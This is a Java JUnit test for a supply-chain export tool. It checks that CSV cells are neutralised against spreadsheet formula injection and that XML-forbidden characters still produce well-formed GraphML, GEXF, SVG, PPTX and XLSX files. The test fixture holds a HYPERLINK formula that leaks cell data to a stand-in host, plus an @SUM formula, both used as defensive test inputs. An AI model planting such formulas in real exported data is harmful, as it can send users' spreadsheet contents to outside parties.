package tenken.views.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Function;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tenken.assets.Messages;
import tenken.graph.concentration.ConcentrationAnalysis;
import tenken.graph.concentration.Thresholds;
import tenken.graph.network.SupplyData;
import tenken.graph.structure.SupplyGraph;
import tenken.graph.structure.SupplyGraphBuilder;
import tenken.graph.structure.SupplyNode;
import tenken.store.db.TenkenDatabase;
import tenken.store.model.Catalogue;
import tenken.store.repo.CatalogueRepository;
import tenken.views.picture.GraphPicture;
import tenken.views.picture.PictureStyle;

/**
 * Issue 10 items 5 and 9 in every writer of the views: CSV cells a spreadsheet would run are neutralised
 * (numbers stay numbers), and text with characters XML 1.0 forbids (U+000B, Word's soft line break)
 * still makes well-formed GraphML, GEXF, SVG, PPTX and XLSX.
 */
class UnsafeTextInOutputsTest {

    private static final String SOFT_BREAK = "\u000B";

    @TempDir
    Path dir;

    @BeforeEach
    void japanese() {
        Messages.setLocale(Messages.JAPANESE);
    }

    private static Table hostile() {
        return new Table("ガリウム" + SOFT_BREAK + "精錬", List.of(
                new Table.Column("供給国", Table.Kind.TEXT),
                new Table.Column("変化", Table.Kind.DECIMAL),
                new Table.Column("出典", Table.Kind.TEXT)),
                List.of(List.of("中国", -0.5, "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"y\")"),
                        List.of("@SUM(A1:A9)", 0.25, "USGS" + SOFT_BREAK + "MCS 2025")));
    }

    @Test
    void csvTablesNeutraliseFormulasAndKeepNegativeNumbersAsNumbers() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExporter.writeCsv(hostile(), out);

        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(out.toString(StandardCharsets.UTF_8).substring(1))).getRecords();
        assertThat(rows.get(0).get("出典")).isEqualTo("'=HYPERLINK(\"http://x.example/?leak=\"&A1,\"y\")");
        assertThat(rows.get(0).get("変化")).isEqualTo("-0.5");
        assertThat(rows.get(1).get("供給国")).isEqualTo("'@SUM(A1:A9)");
    }

    @Test
    void xlsxWithASoftBreakReopens() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExporter.writeXlsx(List.of(hostile()), TestPictures.STAMP, out);

        assertWellFormedParts(out.toByteArray());
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(workbook.getSheetAt(0).getRow(2).getCell(2).getStringCellValue()).isEqualTo("USGSMCS 2025");
        }
    }

    @Test
    void svgAndPptxWithASoftBreakAreWellFormed() throws Exception {
        GraphPicture plain = TestPictures.gallium(PictureStyle.PRINT);
        GraphPicture picture = new GraphPicture(plain.title() + SOFT_BREAK, plain.subtitle() + SOFT_BREAK,
                plain.footnote() + SOFT_BREAK, plain.minX(), plain.minY(), plain.maxX(), plain.maxY(), plain.nodes(),
                plain.edges(), plain.legend(), plain.style());
        Page page = Page.of(picture, TestPictures.STAMP);

        ByteArrayOutputStream svg = new ByteArrayOutputStream();
        SvgRenderer.write(page, svg);
        parse(svg.toByteArray());

        ByteArrayOutputStream pptx = new ByteArrayOutputStream();
        PptxRenderer.write(List.of(page), pptx);
        assertWellFormedParts(pptx.toByteArray());
    }

    @Test
    void graphMlAndGexfWithASoftBreakAreWellFormed() throws Exception {
        Catalogue catalogue = new CatalogueRepository(TenkenDatabase.open(dir.resolve("t.db"))).load();
        SupplyData data = SupplyData.of(catalogue);
        SupplyGraph graph = new SupplyGraphBuilder(data, new ConcentrationAnalysis(data, Thresholds.from(catalogue)))
                .lookThrough("JPN");
        Function<SupplyNode, String> labels = node -> "国" + SOFT_BREAK + node.iso3();

        ByteArrayOutputStream graphMl = new ByteArrayOutputStream();
        GraphFileExporter.writeGraphMl(graph, labels, graphMl);
        parse(graphMl.toByteArray());
        ByteArrayOutputStream gexf = new ByteArrayOutputStream();
        GraphFileExporter.writeGexf(graph, labels, gexf);
        parse(gexf.toByteArray());
    }

    /** Every XML part of an Office file parses. */
    private static void assertWellFormedParts(byte[] office) throws Exception {
        int parts = 0;
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(office))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().endsWith(".xml")) {
                    parse(zip.readAllBytes());
                    parts++;
                }
            }
        }
        assertThat(parts).isGreaterThan(2);
    }

    private static void parse(byte[] xml) throws Exception {
        try (InputStream in = new ByteArrayInputStream(xml)) {
            DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(in);
        }
    }
}
